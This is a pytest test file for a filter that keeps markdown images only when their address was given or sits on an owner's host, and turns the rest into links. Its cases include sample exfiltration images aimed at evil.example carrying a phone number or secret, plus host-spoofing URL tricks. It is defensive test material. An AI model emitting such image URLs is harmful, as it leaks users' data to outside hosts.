"""A picture is shown when its address was given; one that a model made up is a link."""

import pytest

from runtime.turn.given_pictures import only_given

GIVEN = "图在 https://shop.example/a.png 里"
CASES = {
    "given": ("![a](https://shop.example/a.png)", "![a](https://shop.example/a.png)"),
    "made up": ("![a](https://evil.example/?d=13800138000)", "[a](https://evil.example/?d=13800138000)"),
    "given, and more behind it": (
        "![a](https://shop.example/a.png?d=secret)",
        "[a](https://shop.example/a.png?d=secret)",
    ),
    "on a host of the owner's": (
        "![a](https://cdn.example/sku/7.png)",
        "![a](https://cdn.example/sku/7.png)",
    ),
    "on a host that only looks like it": (
        "![a](https://cdn.example.evil.example/7)",
        "[a](https://cdn.example.evil.example/7)",
    ),
    "with the owner's host as a name": (
        "![a](https://cdn.example@evil.example/)",
        "[a](https://cdn.example@evil.example/)",
    ),
    "in the answer itself": ("![a](data:image/png;base64,AA==)", "![a](data:image/png;base64,AA==)"),
    "in another spelling": ("![a]( <HTTPS://evil.example/x>)", "[a]( <HTTPS://evil.example/x>)"),
    "a card whose picture is made up": (
        '[![茶](https://evil.example/?d=1)](https://shop.example/ "明前")',
        '[茶](https://shop.example/ "明前")',
    ),
    "a card": (
        "[![茶](https://cdn.example/t.jpg)](https://shop.example/)",
        "[![茶](https://cdn.example/t.jpg)](https://shop.example/)",
    ),
    "a link": ("[a](https://evil.example/)", "[a](https://evil.example/)"),
    "no picture": ("好！", "好！"),
}


@pytest.mark.parametrize(("said", "shown"), CASES.values(), ids=CASES)
def test_what_is_shown(said, shown):
    assert only_given(said, [GIVEN], ["看 https://cdn.example/ 下的图"]) == shown
